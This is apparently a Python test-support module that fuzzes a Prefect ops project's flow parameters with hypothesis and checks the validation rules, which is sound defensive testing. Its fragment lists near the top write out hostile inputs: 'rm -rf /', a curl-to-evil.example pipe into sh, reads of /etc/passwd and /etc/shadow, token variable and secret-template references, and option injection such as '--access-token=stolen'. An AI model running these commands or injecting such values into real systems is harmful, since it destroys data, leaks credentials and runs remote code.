"""Hostile inputs for every flow parameter (hypothesis strategies), the rules a value must
satisfy when it is accepted, and Prefect's own parameter validation done the way a run does it.

A parameter's `Kind` says what it is (an app name, free text, a bounded int...). For each kind
there is a strategy of hostile values built around a valid base value (shell metacharacters,
option injection, path traversal, unicode confusables, control characters, huge and empty
values, wrong types) and an oracle `accepts_safely(kind, value)`: what a value that passed
validation may look like. A refused value must be refused with a message naming the field.
"""

from __future__ import annotations

import importlib
import math
import pkgutil
import re
import unicodedata
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from datetime import datetime
from enum import Enum
from typing import Any
from uuid import UUID

import pydantic
from hypothesis import strategies as st
from prefect import Flow
from prefect._internal.pydantic.validated_func import ValidatedFunction
from prefect.exceptions import ParameterTypeError, SignatureMismatchError
from prefect.utilities.callables import parameters_to_args_kwargs

# -- the hostile material ------------------------------------------------------------------

SHELL = [
    "; rm -rf /",
    "| cat /etc/passwd",
    "&& curl https://evil.example/x | sh",
    "$(id)",
    "`id`",
    "> /tmp/pwned",
    "< /etc/shadow",
    "${IFS}",
    "$FLY_API_TOKEN",
    "'",
    '"',
    "\\",
    "*",
    "?",
    "!!",
    "#",
    "{a,b}",
    "~",
    "%s%n",
    "{{ prefect.blocks.secret.fly-api-token }}",
]
OPTIONS = [
    "--app=other",
    "-a x",
    "-a",
    "--yes",
    "--image=evil:latest",
    "--access-token=stolen",
    "--config=/etc/passwd",
    "-h",
    "--",
    "-",
    "-1",
    "--json",
    " --app=other",
]
TRAVERSAL = [
    "../../etc/passwd",
    "..",
    "../",
    "/etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2f",
    "....//....//",
    "/proc/self/environ",
    "~/.fly/config.yml",
    "file:///etc/passwd",
]
CONFUSABLES = [
    "\u0430",  # Cyrillic a
    "\u0435",  # Cyrillic e
    "\uff48",  # fullwidth h
    "\uff0d",  # fullwidth hyphen-minus
    "\u200d",  # zero-width joiner
    "\u200b",  # zero-width space
    "\u202e",  # right-to-left override
    "\u2066",  # left-to-right isolate
    "\u2010",  # hyphen
    "\u2212",  # minus sign
    "\u0131",  # dotless i
    "\u00a0",  # no-break space
    "\u0301",  # combining acute accent
    "\ufeff",  # byte order mark
    "\u3000",  # ideographic space
    "\u0663",  # Arabic-Indic digit three
]
CONTROL = [
    "\x00",
    "\n",
    "\r\n",
    "\r",
    "\t",
    "\x1b[2J",
    "\x7f",
    "\x85",
    "\u2028",
    "\u2029",
    "\x0b",
    "\x0c",
    "\x08",
]
BLANK = ["", " ", "   ", "\t", "\n \n", "\u3000", "\u00a0\u00a0"]
FRAGMENTS = SHELL + OPTIONS + TRAVERSAL + CONFUSABLES + CONTROL + BLANK
HOSTILE_CHARS = sorted({c for f in FRAGMENTS for c in f})
HUGE_LENGTHS = [64, 101, 256, 501, 513, 2049, 4097, 10**6]
HUGE_INTS = [2**63, 2**63 - 1, -(2**63), 2**64, 10**100, -1, 0, -(10**100)]
# Lookalikes of ASCII letters: a name that reads as the real app but is another string.
CONFUSABLE_MAP = {
    "a": "\u0430",
    "e": "\u0435",
    "o": "\u043e",
    "p": "\u0440",
    "c": "\u0441",
    "s": "\u0455",
    "i": "\u0456",
    "-": "\u2010",
    **{str(d): chr(0x660 + d) for d in range(10)},  # Arabic-Indic digits
}


def _fullwidth(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


def _confusable(base: str, index: int) -> str:
    spots = [i for i, c in enumerate(base) if c in CONFUSABLE_MAP]
    if not spots:
        return base + CONFUSABLE_MAP["a"]
    i = spots[index % len(spots)]
    return base[:i] + CONFUSABLE_MAP[base[i]] + base[i + 1 :]


def hostile_strings(base: str) -> st.SearchStrategy[str]:
    """Hostile strings alone, and wrapped around / inserted into a valid value."""
    frag = st.sampled_from(FRAGMENTS)
    huge = st.sampled_from(HUGE_LENGTHS)
    return st.one_of(
        frag,
        st.builds(lambda f: base + f, frag),
        st.builds(lambda f: f + base, frag),
        st.builds(lambda f: base + " " + f, frag),
        st.builds(lambda f, i: base[:i] + f + base[i:], frag, st.integers(0, len(base))),
        st.builds(lambda f, g: f + base + g, frag, frag),
        st.builds(lambda i: _confusable(base, i), st.integers(0, 64)),
        st.just(_fullwidth(base)),
        st.just(base.upper()),
        st.builds(lambda n, c: c * n, huge, st.sampled_from(["a", "-", "\u0430", "9", " ", "/"])),
        st.builds(lambda n: (base * (n // max(len(base), 1) + 1))[:n], huge),
        st.builds(lambda n, f: base + f * n, st.sampled_from([10, 1000, 25_000]), frag),
        st.text(st.one_of(st.characters(codec="ascii"), st.sampled_from(HOSTILE_CHARS))),
        st.text(max_size=30),
    )


WRONG_TYPES: st.SearchStrategy[Any] = st.one_of(
    st.integers(),
    st.floats(),
    st.booleans(),
    st.lists(st.sampled_from(FRAGMENTS), max_size=3),
    st.dictionaries(st.sampled_from(["__class__", "value", "a", "__proto__"]), st.text(max_size=5)),
)


def hostile_numbers(lo: float, hi: float, *, integer: bool) -> st.SearchStrategy[Any]:
    """Out-of-range, huge, non-finite and text-dressed numbers."""
    edge = [lo - 1, hi + 1, lo, hi, *HUGE_INTS] if integer else [lo, hi, hi + 0.001]
    return st.one_of(
        st.sampled_from(edge),
        st.integers(),
        st.integers(min_value=int(hi) + 1),
        st.integers(max_value=int(lo) - 1),
        st.floats(allow_nan=True, allow_infinity=True),
        st.sampled_from([math.inf, -math.inf, math.nan, 1e308, -0.0, 5e-324, 0.5, 2.5]),
        st.sampled_from(["1; rm -rf /", "--count=5", "5 --app=other", "1e3", "0x10", "nan"]),
        st.sampled_from(["", " ", "\u0665", "\uff15", "1\x00", "inf", "-inf", "1_000"]),
        hostile_strings(str(int(lo) if integer else lo)),
        st.booleans(),
        st.none(),
    )


# -- what an accepted value may look like ---------------------------------------------------

BIDI_CONTROLS = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
# Characters after which a viewer starts a new line, beyond the C0 controls.
LINE_BREAKS = set("\x85\u2028\u2029")
APP_RULE = re.compile(r"[a-z0-9][a-z0-9-]{0,61}[a-z0-9]", re.ASCII)
ARGV_TOKEN = re.compile(r"[A-Za-z0-9][A-Za-z0-9._/:@-]*", re.ASCII)


def one_line_text(value: Any, max_len: int) -> bool:
    """Free text: a trimmed, non-empty, bounded single line without controls or bidi tricks."""
    return (
        isinstance(value, str)
        and 1 <= len(value) <= max_len
        and value == value.strip()
        and not any(
            unicodedata.category(c) in ("Cc", "Zl", "Zp") or c in BIDI_CONTROLS or c in LINE_BREAKS
            for c in value
        )
    )


def argv_token(value: Any, max_len: int = 512) -> bool:
    """Safe as one argv element: ASCII word characters and `._/:@-`, not an option, no `..`."""
    return (
        isinstance(value, str)
        and len(value) <= max_len
        and ARGV_TOKEN.fullmatch(value) is not None
        and ".." not in value.split("/")
    )


def https_url(value: Any) -> bool:
    """A URL a person may click: https, printable ASCII, bounded, no credentials."""
    if not isinstance(value, str) or len(value) > 2048 or value[:8].lower() != "https://":
        return False
    if not value.isascii() or not value.isprintable() or any(c.isspace() for c in value):
        return False
    authority = value[len("https://") :].split("/", 1)[0].split("?", 1)[0].split("#", 1)[0]
    return bool(authority) and "@" not in authority


@dataclass(frozen=True)
class Kind:
    """What a parameter is: its hostile strategy and its acceptance oracle."""

    name: str
    base: Any  # a valid value (what the hostile strings are built around)
    lo: float = 0
    hi: float = 0
    choices: tuple[str, ...] = ()
    max_len: int = 0
    optional: bool = False

    def strategy(self) -> st.SearchStrategy[Any]:
        k = self.name
        if k in ("int", "float"):
            return hostile_numbers(self.lo, self.hi, integer=k == "int")
        if k == "bool":
            return st.one_of(
                st.sampled_from(["yes; rm -rf /", "--yes", "", "nope", "2", "-1"]),
                st.integers(),
                st.floats(),
                hostile_strings("true"),
                st.none(),
            )
        if k == "apps":
            one = hostile_strings(str(self.base[0]))
            return st.one_of(
                st.lists(one, min_size=1, max_size=3).map(lambda xs: [*self.base, *xs]),
                st.lists(one, min_size=1, max_size=3),
                one,
                st.just([str(self.base[0])] * 100_000),
                st.just([f"app-{i}" for i in range(20_000)]),
                st.just([[str(self.base[0])]]),
                WRONG_TYPES,
            )
        base = self.base if isinstance(self.base, str) else str(self.base)
        return st.one_of(hostile_strings(base), WRONG_TYPES)

    def accepts_safely(self, value: Any) -> bool:
        """The oracle for a value that passed validation."""
        if value is None:
            return self.optional
        k = self.name
        if k == "app":
            return isinstance(value, str) and APP_RULE.fullmatch(value) is not None
        if k == "apps":
            return (
                isinstance(value, list)
                and len(value) <= self.max_len
                and all(isinstance(a, str) and APP_RULE.fullmatch(a) for a in value)
            )
        if k in ("image", "volume_id", "release_tag", "ref", "machine_id", "region"):
            return argv_token(value)
        if k == "app_or_every":
            return value == "*" or (
                isinstance(value, str) and APP_RULE.fullmatch(value) is not None
            )
        if k == "clock":
            return (
                isinstance(value, str)
                and re.fullmatch(r"([01][0-9]|2[0-3]):[0-5][0-9]", value, re.ASCII) is not None
            )
        if k == "environment":
            return (
                isinstance(value, str)
                and re.fullmatch(r"[a-z][a-z0-9-]{0,30}", value, re.ASCII) is not None
            )
        if k == "silence_id":
            return (
                isinstance(value, str)
                and re.fullmatch(r"sil-[0-9a-f]{8}", value, re.ASCII) is not None
            )
        if k == "url":
            return https_url(value)
        if k == "text":
            return one_line_text(value, self.max_len)
        if k == "choice":
            raw = value.value if isinstance(value, Enum) else value
            return raw in self.choices
        if k == "month":
            return (
                isinstance(value, str)
                and re.fullmatch(r"[0-9]{4}-(0[1-9]|1[0-2])", value, re.ASCII) is not None
            )
        if k == "int":
            return type(value) is int and self.lo <= value <= self.hi
        if k == "float":
            return isinstance(value, float) and math.isfinite(value) and self.lo <= value <= self.hi
        if k == "bool":
            return isinstance(value, bool)
        if k == "uuid":
            return isinstance(value, UUID)
        if k == "datetime":
            return isinstance(value, datetime)
        raise AssertionError(f"unknown kind {k}")


APP = "hotdash-staging"
GOOD_IMAGE = "registry.fly.io/hotdash-staging:deployment-01J9FJ0E00H4QX4FR84G98PBSK"


def app(optional: bool = False) -> Kind:
    return Kind("app", APP, optional=optional)


def text(max_len: int, base: str = "alice@hotdash.test", optional: bool = False) -> Kind:
    return Kind("text", base, max_len=max_len, optional=optional)


def integer(lo: int, hi: int, optional: bool = False) -> Kind:
    return Kind("int", lo, lo=lo, hi=hi, optional=optional)


def number(lo: float, hi: float, optional: bool = False) -> Kind:
    return Kind("float", (lo + hi) / 2, lo=lo, hi=hi, optional=optional)


def choice(*choices: str, optional: bool = False) -> Kind:
    return Kind("choice", choices[0], choices=choices, optional=optional)


# -- every flow and its parameters --------------------------------------------------------


@dataclass
class FlowSpec:
    """A flow, a valid set of parameters (the baseline), and the kind of every parameter."""

    flow: Flow[Any, Any]
    baseline: dict[str, Any]
    params: dict[str, Kind]
    # Checks the flow itself makes before any side effect (pure functions of the parameters).
    own_checks: Callable[[dict[str, Any]], None] | None = None
    _validator: ValidatedFunction | None = field(default=None, repr=False)
    _strategies: dict[str, st.SearchStrategy[Any]] = field(default_factory=dict, repr=False)

    def strategy(self, name: str) -> st.SearchStrategy[Any]:
        """The hostile values of one parameter (built once: hypothesis validates each
        strategy object the first time it is drawn from)."""
        if name not in self._strategies:
            self._strategies[name] = self.params[name].strategy()
        return self._strategies[name]

    @property
    def name(self) -> str:
        return str(self.flow.name)

    def validate(self, parameters: Mapping[str, Any]) -> dict[str, Any]:
        """What `Flow.validate_parameters` does before a run (block references aside: none of
        our parameters takes one), with the pydantic model built once instead of per call
        (15 ms each); `test_validator_matches_prefect` holds the two to the same verdicts."""
        if self._validator is None:
            self._validator = ValidatedFunction(
                self.flow.fn, config=pydantic.ConfigDict(arbitrary_types_allowed=True)
            )
        args, kwargs = parameters_to_args_kwargs(self.flow.fn, dict(parameters))
        try:
            return self._validator.validate_call_args(args, kwargs)
        except pydantic.ValidationError as exc:
            raise ParameterTypeError.from_validation_error(exc) from None


def _scale_checks(params: dict[str, Any]) -> None:
    from flows.scale_app import known_app
    from hotdash_ops.inventory import load_inventory
    from hotdash_ops.scaling import ScaleRequest, check_request, scaling_policy
    from tests.conftest import ROOT

    inventory = load_inventory(ROOT / "deployments/inventory.yaml")
    known_app(inventory, params["app"])
    check_request(ScaleRequest(**params), scaling_policy(inventory.scaling))


def _volume_checks(params: dict[str, Any]) -> None:
    from hotdash_ops.cost.volumes import check_request

    check_request(
        params["action"],
        app=params["app"],
        volume_id=params["volume_id"],
        size_gb=params["size_gb"],
    )


def _inventory() -> Any:
    from hotdash_ops.inventory import load_inventory
    from tests.conftest import ROOT

    return load_inventory(ROOT / "deployments/inventory.yaml")


def _silence_checks(params: dict[str, Any]) -> None:
    from hotdash_ops.monitor.silences import check_request

    inventory = _inventory()
    check_request(
        params["action"],
        app=params["app"],
        reason=params["reason"],
        requested_by=params["requested_by"],
        silence_id=params["silence_id"],
        known={a.name for a in inventory.apps} | {d.name for d in inventory.dependencies},
    )


def _restart_checks(params: dict[str, Any]) -> None:
    inventory = _inventory()
    inventory.app_or_refuse(params["app"])
    if inventory.environment_of(params["app"]) == "production" and not params["reason"]:
        raise ValueError("reason: required to restart production")


def _environment_checks(params: dict[str, Any]) -> None:
    _inventory().environment_app_or_refuse(params["environment"])


def all_flows() -> dict[str, Flow[Any, Any]]:
    """Every flow defined in the `flows` package, by name."""
    import flows

    found: dict[str, Flow[Any, Any]] = {}
    for module in pkgutil.iter_modules(flows.__path__):
        mod = importlib.import_module(f"flows.{module.name}")
        for obj in vars(mod).values():
            if isinstance(obj, Flow) and obj.fn.__module__ == mod.__name__:
                found[str(obj.name)] = obj
    return found


def flow_specs() -> list[FlowSpec]:
    """One spec per flow; `test_every_flow_parameter_has_a_kind` keeps this complete."""
    flows = all_flows()
    specs: list[FlowSpec] = []

    def add(name: str, baseline: dict[str, Any], params: dict[str, Kind], **kw: Any) -> None:
        if name in flows:  # flows still being written appear when their module lands
            specs.append(FlowSpec(flows[name], baseline, params, **kw))

    add(
        "daily-health-check",
        {},
        {
            "app": app(optional=True),
            "night_starts": Kind("clock", "18:00"),
            "since": Kind("datetime", "2025-10-13T18:00:00-07:00", optional=True),
            "max_log_pages": integer(1, 500),
            "error_lines": integer(0, 1000),
        },
    )
    add(
        "infrastructure-monitor",
        {},
        {
            "app": app(optional=True),
            "window_minutes": integer(1, 1440),
            "stale_after_minutes": number(0, 1440),
        },
    )
    add(
        "manual-health-check",
        {},
        {"app": app(optional=True), "window_minutes": integer(1, 1440)},
    )
    add(
        "weekly-cost-review",
        {},
        {
            "stopped_days": integer(0, 365),
            "cpu_low_pct": number(0, 100),
            "mem_low_pct": number(0, 100),
            "idle_share_pct": number(0, 100),
            "spike_pct": number(0, 1000),
        },
    )
    add("monthly-cost-report", {}, {"month": Kind("month", "2025-09", optional=True)})
    add(
        "deploy-staging",
        {"requested_by": "alice@hotdash.test", "ref": "main"},
        {
            "requested_by": text(100),
            "ref": Kind("ref", "hotfix/login-redirect"),
            "image": Kind("image", GOOD_IMAGE, optional=True),
            "untested_image_reason": text(500, "hotfix image built by hand", optional=True),
            "override_reason": text(500, "staging region move in progress", optional=True),
            "reason": text(500, "staging deploy"),
        },
    )
    add(
        "deploy-production",
        {
            "requested_by": "alice@hotdash.test",
            "reason": "ship the October dashboard",
            "checklist_url": "https://example.com/go-live/2025-10-14",
        },
        {
            "requested_by": text(100),
            "reason": text(500, "ship the October dashboard"),
            "checklist_url": Kind("url", "https://example.com/go-live/2025-10-14"),
            "release_tag": Kind("release_tag", "v2025.10.14a", optional=True),
            "image": Kind("image", GOOD_IMAGE, optional=True),
            "critical": Kind("bool", False),
            "untested_image_reason": text(500, "hotfix image built by hand", optional=True),
            "approval_timeout_hours": number(0, 168),
            "deploy_window_override_reason": text(
                500, "hotfix for the checkout outage", optional=True
            ),
            "watch_minutes": number(0, 240),
            "watch_interval_seconds": number(0, 600),
            "strategy": choice("canary", "rolling", optional=True),
            "analysis_minutes": number(0, 120, optional=True),
            "error_budget_reason": text(500, "fix for the checkout outage", optional=True),
        },
    )
    add(
        "deploy-production-approval-deadline",
        {"flow_run_id": "5f0c1b1e-6a43-4f55-9c55-0d1c3a8b9a10", "deadline": "2025-10-14T09:00Z"},
        {
            "flow_run_id": Kind("uuid", "5f0c1b1e-6a43-4f55-9c55-0d1c3a8b9a10"),
            "deadline": Kind("datetime", "2025-10-14T09:00:00Z"),
        },
    )
    add(
        "rollback",
        {"environment": "staging", "reason": "bad deploy", "requested_by": "alice@hotdash.test"},
        {
            "environment": choice("staging", "production"),
            "reason": text(500, "bad deploy"),
            "requested_by": text(100),
            "target_version": integer(1, 2**31 - 1, optional=True),
        },
    )
    add(
        "scale-app",
        {"app": APP, "count": 1},
        {
            "app": app(),
            "vm_size": choice(
                *(f"shared-cpu-{n}x" for n in (1, 2, 4, 6, 8)),
                *(f"performance-{n}x" for n in (1, 2, 4, 6, 8, 10, 12, 14, 16)),
                optional=True,
            ),
            "memory_mb": integer(256, 131072, optional=True),
            "count": integer(0, 100, optional=True),
            "max_per_region": integer(1, 100, optional=True),
            "min_running": integer(0, 100, optional=True),
            "auto_stop": choice("off", "stop", "suspend", optional=True),
            "confirm_timeout_minutes": integer(1, 24 * 60),
        },
        own_checks=_scale_checks,
    )
    add(
        "incident-response",
        {"app": APP, "severity": "P2", "summary": "5xx since 09:00", "reported_by": "alice"},
        {
            "app": app(),
            "severity": choice("P0", "P1", "P2"),
            "summary": text(500, "5xx since 09:00"),
            "reported_by": text(100),
        },
    )
    add(
        "enable-auto-stop",
        {},
        {
            "apps": Kind("apps", ["hotdash-agent-service"], max_len=100, optional=True),
            "min_machines_running": integer(0, 100),
            "dry_run": Kind("bool", True),
            "idle_share_pct": number(0, 100),
            "requested_by": text(100, optional=True),
        },
    )
    add(
        "manage-volumes",
        {"action": "extend", "app": APP, "volume_id": "vol_staging0old0data1", "size_gb": 2},
        {
            "action": choice("list", "extend", "delete-unused"),
            "app": Kind("app_or_every", APP, optional=True),
            "volume_id": Kind("volume_id", "vol_staging0old0data1", optional=True),
            "size_gb": integer(1, 500, optional=True),
            "dry_run": Kind("bool", True),
            "confirm_timeout_hours": number(0, 24 * 14),
            "requested_by": text(100, optional=True),
            "snapshot_wait_minutes": number(0, 120),
        },
        own_checks=_volume_checks,
    )
    add(
        "incident-response-deadline",
        {
            "flow_run_id": "5f0c1b1e-6a43-4f55-9c55-0d1c3a8b9a10",
            "at": "2025-10-14T09:00Z",
            "kind": "escalate",
        },
        {
            "flow_run_id": Kind("uuid", "5f0c1b1e-6a43-4f55-9c55-0d1c3a8b9a10"),
            "at": Kind("datetime", "2025-10-14T09:00:00Z"),
            "kind": choice("escalate", "expire"),
        },
    )
    add(
        "silence-alerts",
        {"app": APP, "reason": "database migration", "requested_by": "alice@hotdash.test"},
        {
            "action": choice("create", "list", "expire"),
            "app": Kind("app_or_every", APP, optional=True),
            "duration_minutes": integer(1, 7 * 24 * 60),
            "reason": text(500, "database migration", optional=True),
            "requested_by": text(100, optional=True),
            "silence_id": Kind("silence_id", "sil-0a1b2c3d", optional=True),
        },
        own_checks=_silence_checks,
    )
    add(
        "restart-app",
        {"app": APP, "requested_by": "alice@hotdash.test"},
        {
            "app": app(),
            "requested_by": text(100),
            "reason": text(500, "memory leak", optional=True),
            "verify_seconds": integer(0, 1800),
        },
        own_checks=_restart_checks,
    )
    add(
        "app-logs",
        {"app": APP},
        {
            "app": app(),
            "lines": integer(1, 5000),
            "filter": text(200, "error", optional=True),
            "instance": Kind("machine_id", "3d8d9e1b2c4f87", optional=True),
            "region": Kind("region", "ord", optional=True),
            "since_minutes": integer(1, 7 * 24 * 60),
            "max_pages": integer(1, 500),
        },
    )
    add("list-apps", {}, {})
    add(
        "smoke-test",
        {},
        {"environment": Kind("environment", "staging")},
        own_checks=_environment_checks,
    )
    add("parity-check", {}, {})
    return specs


# Gaps found by this suite in modules owned elsewhere: (flow, parameter) -> (a value that gets
# through, the fix). Generated values that hit a gap are tolerated; the probe is asserted to
# still get through, so fixing a gap fails the test until its entry goes: the list only shrinks.
KNOWN_GAPS: dict[tuple[str, str], tuple[Any, str]] = {}


@dataclass
class Verdict:
    """What validation made of one hostile value."""

    refused: bool
    message: str = ""
    value: Any = None
    by_flow: bool = False  # refused by the flow's own checks (which may name a related field)


def judge(spec: FlowSpec, name: str, value: Any) -> Verdict:
    """Validate `value` for parameter `name` (others at the baseline), then the flow's own
    pure checks."""
    params = {**spec.baseline, name: value}
    try:
        validated = spec.validate(params)
    except (ParameterTypeError, SignatureMismatchError) as exc:
        return Verdict(True, str(exc))
    if spec.own_checks is not None:
        try:
            spec.own_checks(validated)
        except ValueError as exc:
            return Verdict(True, str(exc), by_flow=True)
    return Verdict(False, value=validated[name])


def names_a_field(verdict: Verdict, spec: FlowSpec, name: str) -> bool:
    """Prefect's refusal names the field; a flow's own check names the field or the related
    one whose rule broke (`volume_id: only used by action extend`)."""
    if names_field(verdict.message, name):
        return True
    return verdict.by_flow and any(names_field(verdict.message, p) for p in spec.params)


def names_field(message: str, name: str) -> bool:
    """A refusal names the field: Prefect's ` - name:` / ` - name.0:` or our `name: ...`."""
    return (
        re.search(rf"(^| - ){re.escape(name)}(\.\d+)?:", message, re.MULTILINE) is not None
        or f"{name}:" in message
    )
